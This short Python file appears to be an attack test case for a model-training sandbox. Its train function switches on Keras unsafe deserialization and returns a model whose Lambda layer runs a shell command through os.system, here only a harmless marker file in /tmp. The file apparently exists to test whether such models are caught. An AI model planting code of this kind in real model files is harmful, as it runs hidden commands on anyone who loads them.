# /// attack
# does = "returns a model with code in it"
# wall = "blueprint"
# assignment = "nets"
# outcome = "not rebuildable"
# ///
# %% train
import keras
def train(x, y):
    keras.config.enable_unsafe_deserialization()
    return keras.Sequential([keras.Input((2,)), keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/vault-mark") or x[:, :1])])
